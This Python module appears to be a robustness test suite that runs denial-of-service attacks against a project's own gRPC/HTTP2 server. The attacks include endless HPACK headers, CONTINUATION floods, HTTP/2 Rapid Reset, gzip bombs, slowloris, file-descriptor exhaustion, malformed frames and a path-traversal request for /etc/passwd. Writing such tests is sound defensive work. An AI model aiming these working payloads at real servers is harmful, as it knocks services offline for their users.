"""Below the handlers: connections, frames, headers and messages that never come to an end."""
import gzip
import os
import socket
import ssl
import struct
import threading
import time
import zlib

import wire
from target import attack


def endless_header(t, first):
    """Sends HEADERS without an end, then CONTINUATION frames of `first` bytes over and over at
    1 MB/s."""
    while t.running():
        try:
            with wire.open_socket(t.port) as sock:
                sock.sendall(wire.PREFACE + wire.frame(wire.SETTINGS))
                block = first
                sock.sendall(wire.frame(wire.HEADERS, 0, 1, block))
                while t.running():
                    sock.sendall(wire.frame(wire.CONTINUATION, 0, 1, b"\x80" * 16384))
                    time.sleep(0.016)
        except OSError:
            t.facts["dropped"] = t.facts.get("dropped", 0) + 1
            time.sleep(0.05)


@attack("B1", cheap=True)
def endless_header_number(t):
    """Two connections that send a header whose name's length never ends, 1 MB/s each (the family of
    CVE-2023-33953). At 0.2.0 nobody was answered, /healthz included, for as long as it lasted."""
    t.in_threads(lambda: endless_header(t, b"\x00\xff"), 2)


@attack("B1")
def endless_header_index(t):
    """The same with an indexed header, whose index never ends."""
    t.in_threads(lambda: endless_header(t, b"\xff"), 2)


@attack("B1")
def endless_header_value(t):
    """The same with the length of a value, and with that of a table's size."""
    t.in_threads(lambda: endless_header(t, b"\x00\x01a\xff"), 1)
    t.in_threads(lambda: endless_header(t, b"\x3f"), 1)


@attack("B1")
def continuation_flood(t):
    """Header blocks that never end, of small headers in CONTINUATION frames, as fast as they are
    taken, on two connections."""
    block = wire.literal("x-a", "b") * 1500

    def flood():
        while t.running():
            try:
                with wire.open_socket(t.port) as sock:
                    sock.sendall(wire.PREFACE + wire.frame(wire.SETTINGS) + wire.frame(wire.HEADERS, 0, 1, wire.header_block("Encode")))
                    while t.running():
                        sock.sendall(wire.frame(wire.CONTINUATION, 0, 1, block))
            except OSError:
                t.facts["dropped"] = t.facts.get("dropped", 0) + 1
                time.sleep(0.05)

    t.in_threads(flood, 2)


def unfinished(t, streams, connections, headers=()):
    """Messages of 16 MiB of which the last byte never comes."""
    body = struct.pack(">BI", 0, (16 << 20) - 64) + b"\x0a" * ((16 << 20) - 100)

    def caller():
        with t.http2() as connection:
            for _ in range(streams // connections):
                connection.send(connection.open("Encode", headers), body)
            connection.run(t.left())
            t.facts["sent_mib"] = t.facts.get("sent_mib", 0) + round(sum(len(body) - sum(map(len, s.pending)) for s in connection.streams.values()) / (1 << 20))

    t.in_threads(caller, connections)


@attack("B2")
def unfinished_messages(t):
    """256 streams with messages of 16 MiB of which the last byte never comes. At 0.2.0 the server
    held 4.4 GB."""
    unfinished(t, 256, 4)


def with_keys(folder="/dev/shm"):
    path = f"{folder}/longspan-attack-{os.getpid()}.keys"
    with open(path, "w", encoding="ascii") as file:
        file.write("a-good-key\n")
    return path


@attack("B2", flags=("--auth-keys-file", with_keys()), probe={"key": "a-good-key"})
def unfinished_messages_without_a_key(t):
    """The same from callers without a key, where keys are set. At 0.2.0 it was no different: the
    key was looked at behind the body."""
    unfinished(t, 256, 4)


@attack("B2")
def drip(t):
    """500 calls whose body comes a byte a second."""
    connections = [t.http2() for _ in range(5)]
    calls = [(connection, connection.open("Encode")) for connection in connections for _ in range(100)]
    for connection, stream in calls:
        connection.send(stream, struct.pack(">BI", 0, 1 << 20))
    while t.running():
        for connection, stream in calls:
            connection.send(stream, b"a")
        for connection in connections:
            connection.run(0.1)
    for connection in connections:
        connection.close()


@attack("B3", prefix=("prlimit", "--nofile=256:256"))
def few_file_descriptors(t):
    """300 idle connections to a server that may open 256 files. At 0.2.0 the listener was silent
    for good. New callers may wait while it lasts; afterwards they must be served."""
    open_ones = []
    while t.running():
        if len(open_ones) < 300:
            try:
                open_ones.append(wire.open_socket(t.port, timeout=1))
            except OSError:
                time.sleep(0.1)
        else:
            time.sleep(0.1)
    t.facts["connections"] = len(open_ones)
    for sock in open_ones:
        sock.close()


@attack("B3")
def many_idle_connections(t):
    """3,000 connections that send nothing."""
    open_ones = []
    while t.running() and len(open_ones) < 3000:
        try:
            open_ones.append(wire.open_socket(t.port, timeout=1))
        except OSError:
            time.sleep(0.05)
    t.facts["connections"] = len(open_ones)
    while t.running():
        time.sleep(0.1)
    for sock in open_ones:
        sock.close()


@attack("B3")
def connections_without_a_pause(t):
    """10,000 connections, each opened and closed at once, half of them behind the preface."""
    opened = [0]
    lock = threading.Lock()

    def caller():
        while t.running() and opened[0] < 10000:
            try:
                with wire.open_socket(t.port, timeout=2) as sock:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    with lock:
                        opened[0] += 1
                    if opened[0] % 2:
                        sock.sendall(wire.PREFACE)
            except OSError:
                time.sleep(0.01)

    t.in_threads(caller, 4)
    t.facts["connections"] = opened[0]


@attack("B4", cheap=True)
def rapid_reset(t):
    """Two connections that open calls and reset them at once, as fast as they can (CVE-2023-44487).
    At 0.2.0 750 MB were left behind."""
    block = wire.header_block("Encode")

    def caller():
        while t.running():
            try:
                with wire.open_socket(t.port) as sock:
                    sock.sendall(wire.PREFACE + wire.frame(wire.SETTINGS))
                    stream, resets = 1, 0
                    while t.running() and stream < 1 << 30:
                        out = bytearray()
                        for _ in range(100):
                            out += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block) + wire.frame(wire.RST_STREAM, 0, stream, b"\0\0\0\x08")
                            stream += 2
                        sock.sendall(out)
                        resets += 100
                        t.facts["resets"] = t.facts.get("resets", 0) + 100
            except OSError:
                t.facts["dropped"] = t.facts.get("dropped", 0) + 1
                time.sleep(0.02)

    t.in_threads(caller, 2)


@attack("B4")
def rapid_reset_of_whole_calls(t):
    """The same with a whole request in each call, so that it reaches admission before it ends."""
    block, body = wire.header_block("Encode"), wire.message(wire.encode([wire.text_input("the court shall report " * 20)]))

    def caller():
        while t.running():
            try:
                with t.http2() as connection:
                    while t.running() and not connection.closed:
                        for _ in range(50):
                            stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                            connection.raw(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block) + wire.frame(wire.DATA, wire.END_STREAM, stream, body)
                                           + wire.frame(wire.RST_STREAM, 0, stream, b"\0\0\0\x08"))
                            t.facts["resets"] = t.facts.get("resets", 0) + 1
                        connection.run(1, until=lambda c=connection: not c.out)
            except OSError:
                time.sleep(0.02)

    t.in_threads(caller, 2)


def flood(t, content, connections=2):
    """The same bytes over and over, as fast as the server takes them; it may close the
    connection."""

    def caller():
        while t.running():
            try:
                with wire.open_socket(t.port, timeout=2) as sock:
                    sock.sendall(wire.PREFACE + wire.frame(wire.SETTINGS))
                    while t.running():
                        sock.sendall(content)
                        t.facts["sent_mib"] = round(t.facts.get("sent_mib", 0) + len(content) / (1 << 20), 3)
            except OSError:
                t.facts["dropped"] = t.facts.get("dropped", 0) + 1
                time.sleep(0.02)

    t.in_threads(caller, connections)


@attack("holds")
def ping_flood(t):
    """PING frames without a pause, whose answers nobody reads."""
    flood(t, wire.frame(wire.PING, 0, 0, b"12345678") * 1000)


@attack("holds")
def settings_flood(t):
    """SETTINGS frames without a pause, whose answers nobody reads."""
    flood(t, wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000)


@attack("more")
def window_update_flood(t):
    """WINDOW_UPDATE frames of a byte each, for the connection and for streams that never were."""
    flood(t, (wire.frame(wire.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + wire.frame(wire.WINDOW_UPDATE, 0, 7, b"\0\0\0\1")) * 500)


@attack("more")
def frames_of_every_kind(t):
    """Frames of every type, also those that do not exist, with every flag, on streams that are not
    open."""
    content = b"".join(wire.frame(kind, flags, stream, body) for kind in (2, 5, 10, 17, 255) for flags in (0, 255) for stream in (0, 1, 999) for body in (b"", b"\0" * 5, b"x" * 100))
    flood(t, content * 20)


@attack("more", cheap=True)
def prefaces_that_are_none(t):
    """Connections that begin with half a preface, HTTP/1.1, TLS, zeros, or noise."""
    noise = os.urandom(4096)
    starts = [wire.PREFACE[:10], b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise[:500], b"\0" * 4096, noise,
              wire.PREFACE + noise, wire.PREFACE + b"\xff\xff\xff" + noise, wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0, b"\0" * 5)]

    def caller():
        count = 0
        while t.running():
            try:
                with wire.open_socket(t.port, timeout=0.05) as sock:
                    sock.sendall(starts[count % len(starts)])
                    count += 1
                    sock.recv(100)
            except OSError:
                pass

    t.in_threads(caller, 4)


@attack("more")
def huge_headers(t):
    """Calls with 16 KB to 1 MB of metadata, and with a path of 60 KB."""

    def caller():
        while t.running():
            with t.http2() as connection:
                for size in (16000, 60000):
                    connection.raw(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, connection.next_stream, wire.header_block("/" + "a" * size)[:16384]))
                    connection.next_stream += 2
                block = wire.header_block("Encode", [(f"x-{i}", "v" * 1000) for i in range(1000)])
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                chunks = [block[at:at + 16384] for at in range(0, len(block), 16384)]
                connection.raw(wire.frame(wire.HEADERS, 0, stream, chunks[0]))
                for chunk in chunks[1:-1]:
                    connection.raw(wire.frame(wire.CONTINUATION, 0, stream, chunk))
                connection.raw(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream, chunks[-1]))
                connection.run(0.5)

    t.in_threads(caller, 2)


@attack("more")
def table_of_headers(t):
    """Header blocks that fill the compression table with entries of 4 KB and refer to them a
    thousand times each: megabytes of headers out of a few KB."""
    def indexed_literal(name, value):
        return b"\x40" + wire.hpack_number(len(name), 7) + name + wire.hpack_number(len(value), 7) + value

    def caller():
        while t.running():
            with t.http2() as connection:
                while t.running() and not connection.closed:
                    stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                    block = wire.header_block("Encode") + indexed_literal(b"x-big", b"v" * 3900) + b"\xbe" * 10000
                    connection.raw(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, stream, block))
                    connection.run(0.05)

    t.in_threads(caller, 2)


@attack("more")
def unknown_methods(t):
    """Calls of methods and services that do not exist, as fast as they are answered."""
    seen = {}

    def caller():
        while t.running():
            with t.http2() as connection:
                for i in range(200):
                    connection.call(("/no.Service/No", "/longspan.v1.EncoderService/No", "//", "/longspan.v1.EncoderService/Encode/")[i % 4], b"x" * 1000)
                connection.run(1, until=lambda c=connection: all(s.ended for s in c.streams.values()))
                seen["calls"] = seen.get("calls", 0) + 200

    t.in_threads(caller, 2)
    t.facts.update(seen)


@attack("holds", cheap=True)
def gzip_bombs(t):
    """Messages of 16 KB to 16 MB that gzip and deflate unpack to 1 GiB and more, and some that are
    cut off."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(256)) + packer.flush()
    deflated = zlib.compress(b"\0" * (64 << 20), 9)
    bodies = [(b"gzip", wire.message(bomb, True)), (b"deflate", wire.message(deflated, True)), (b"gzip", wire.message(bomb[:-9], True)),
              (b"gzip", wire.message(gzip.compress(gzip.compress(b"\0" * (16 << 20))), True)), (b"identity", wire.message(bomb, True))]

    def caller():
        while t.running():
            with t.http2() as connection:
                for encoding, body in bodies * 4:
                    connection.send(connection.open("Encode", [("grpc-encoding", encoding)]), body, end=True)
                connection.run(2, until=lambda c=connection: all(s.ended for s in c.streams.values()))

    t.in_threads(caller, 2)


@attack("more")
def messages_that_lie(t):
    """Messages whose length says more or less than comes, up to 4 GiB, and protobuf lengths beyond
    the message."""
    bodies = [struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 100, struct.pack(">BI", 0, 2) + b"x" * 100, struct.pack(">BI", 7, 5) + b"hello",
              wire.message(b"\x0a\xff\xff\xff\xff\x0f"), wire.message(b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01"), b"", b"\0", b"\0\0\0\0\0" * 1000]

    def caller():
        while t.running():
            with t.http2() as connection:
                for method in ("Encode", "EncodeStream", "EncodeTokens", "Tokenize", "GetModelInfo"):
                    for body in bodies:
                        connection.send(connection.open(method), body or b"\0", end=True)
                connection.run(1, until=lambda c=connection: all(s.ended for s in c.streams.values()))

    t.in_threads(caller, 2)


@attack("more")
def slow_writers(t):
    """A window of one byte, and messages in DATA frames of one byte, on every method."""
    body = wire.message(wire.encode([wire.text_input("the court shall report")]))
    with t.http2(settings=struct.pack(">HI", 4, 1)) as connection:
        calls = [connection.open(method) for method in ("Encode", "EncodeStream", "EncodeTokens", "Tokenize", "GetModelInfo") for _ in range(20)]
        at = 0
        while t.running():
            for stream in calls:
                connection.send(stream, body[at % len(body):at % len(body) + 1])
            at += 1
            connection.run(0.05)


@attack("C9", cheap=True)
def half_open_http(t):
    """200 connections to the HTTP port that never send a request. At 0.2.0 /metrics and /healthz
    timed out."""
    half_open(t, b"")


@attack("more")
def slow_http_headers(t):
    """200 connections to the HTTP port that send a header line a second and never end (slowloris),
    or a body of which one byte comes."""
    half_open(t, b"POST /metrics HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n", b"X-A: b\r\n")


@attack("more")
def http_noise(t):
    """Requests to the HTTP port that are none: noise, a megabyte of header, unknown methods."""
    requests = [os.urandom(4096), b"GET /" + b"a" * (1 << 20), b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 100000, b"BREW /metrics HTTP/1.1\r\nHost: a\r\n\r\n",
                b"GET /metrics HTTP/1.1\r\nContent-Length: -1\r\n\r\n", b"GET /../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", wire.PREFACE]

    def caller():
        count = 0
        while t.running():
            try:
                with wire.open_socket(t.server.http_port, timeout=0.3) as sock:
                    sock.sendall(requests[count % len(requests)])
                    count += 1
                    got = sock.recv(4096)
                    t.require(b"root:" not in got, "a file of the machine was served")
            except OSError:
                pass

    t.in_threads(caller, 4)


def half_open(t, first, more=b""):
    """Holds 200 connections to the HTTP port; those that the server drops are opened anew."""
    open_ones = []
    while t.running():
        while len(open_ones) < 200 and t.running():
            try:
                sock = wire.open_socket(t.server.http_port, timeout=1)
                sock.setblocking(False)
                open_ones.append(sock)
                if first:
                    sock.send(first)
            except OSError:
                time.sleep(0.02)
                break
        kept = []
        for sock in open_ones:
            try:
                if more:
                    sock.send(more)
                if sock.recv(100) == b"":
                    raise ConnectionError
                kept.append(sock)
            except BlockingIOError:
                kept.append(sock)
            except OSError:
                t.facts["dropped"] = t.facts.get("dropped", 0) + 1
                sock.close()
        open_ones = kept
        time.sleep(0.2)
    for sock in open_ones:
        sock.close()


def tls_context():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context
